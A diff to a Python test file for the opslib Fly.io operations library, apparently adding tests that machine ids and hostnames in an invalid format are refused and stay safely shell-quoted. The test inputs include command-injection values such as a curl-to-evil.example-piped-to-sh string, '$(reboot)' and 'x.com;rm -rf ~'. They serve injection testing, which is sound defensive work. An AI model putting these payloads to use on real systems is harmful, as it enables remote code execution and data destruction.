@@ -216,7 +216,8 @@ def test_every_opslib_exception_lives_in_errors_and_survives_pickle():
 
 
 def _planned_kinds() -> set[str]:
-    """Every action kind written literally in an ``Action(…)`` call anywhere in opslib."""
+    """Every action kind written literally in an ``Action(…)``, ``machine_action(…)`` or
+    ``cert_action(…)`` call anywhere in opslib."""
     import ast
     from pathlib import Path
 
@@ -225,8 +226,10 @@ def _planned_kinds() -> set[str]:
     kinds = set()
     for path in Path(opslib.__file__).parent.rglob("*.py"):
         for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
-            if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "Action":
-                args = node.args[1:2] + [k.value for k in node.keywords if k.arg == "kind"]
+            name = getattr(node, "func", None) and getattr(node.func, "id", "")
+            if isinstance(node, ast.Call) and name in ("Action", "machine_action", "cert_action"):
+                first = node.args[1:2] if name == "Action" else node.args[:1]
+                args = first + [k.value for k in node.keywords if k.arg == "kind"]
                 kinds |= {a.value for a in args if isinstance(a, ast.Constant)}
     return kinds
 
@@ -241,3 +244,51 @@ def test_every_action_kind_a_runbook_can_plan_has_an_executor():
     assert all(callable(fn) for fn in EXECUTORS.values())
     with pytest.raises(ValueError, match="not one of"):
         Action("x", "machine.destroy", "t", "c", {})
+
+
+@pytest.mark.parametrize("hostile", ["m1;curl${IFS}evil.example|sh", "--config=/tmp/x",
+                                     "148ed193b95089 -a other-app", "$(reboot)"])
+def test_a_machine_id_not_in_flys_format_is_never_planned_and_its_command_is_inert(hostile):
+    """An API answer can carry any string as a machine id: the printed command stays one word
+    per value when pasted into a shell, and the action is refused, never applied."""
+    import shlex
+
+    from opslib.actions import ApplyContext, apply_plan, machine_action
+
+    a = machine_action("machine.start", "my-app", hostile, title="t", basis={}, reason="r")
+    assert shlex.split(a.command) == ["fly", "machine", "start", hostile, "-a", "my-app"]
+    assert a.status == "refused" and "not in Fly's format" in a.result["reason"]
+
+    class Live:
+        kind, app = "live", "my-app"
+
+    class Session:
+        def event(self, **kw):
+            raise AssertionError("a refused action must not be applied or recorded as applied")
+
+    good = machine_action("machine.update", "my-app", "148ed193b95089", title="t", basis={},
+                          reason="r", flags=("--image", "reg/img:v1"),
+                          config_patch={"image": "reg/img:v1"})
+    assert good.status == "planned"
+    assert shlex.split(good.command) == ["fly", "machine", "update", "148ed193b95089", "--image",
+                                         "reg/img:v1", "-a", "my-app", "--yes"]
+    from opslib.actions import plan_digest
+    record = apply_plan(ApplyContext(Session(), Live()), "health", [a], apply=True,
+                        confirm=plan_digest("health", "my-app", [a]))
+    assert a.status == "refused" and record["outcome"] != "failed"
+
+
+def test_cert_commands_run_unattended_and_refuse_hostnames_not_in_dns_format():
+    import shlex
+
+    from opslib.actions import cert_action
+
+    readd = cert_action("cert.readd", "my-app", "www.example.com", title="t", basis={}, reason="r")
+    first, second = readd.command.split(" && ")
+    # `fly certs remove` prompts without --yes: in a script `remove && add` would stop there
+    assert shlex.split(first) == ["fly", "certs", "remove", "www.example.com", "-a", "my-app",
+                                  "--yes"]
+    assert shlex.split(second) == ["fly", "certs", "add", "www.example.com", "-a", "my-app"]
+    assert readd.status == "planned"
+    bad = cert_action("cert.check", "my-app", "x.com;rm -rf ~", title="t", basis={}, reason="r")
+    assert bad.status == "refused" and shlex.split(bad.command)[3] == "x.com;rm -rf ~"
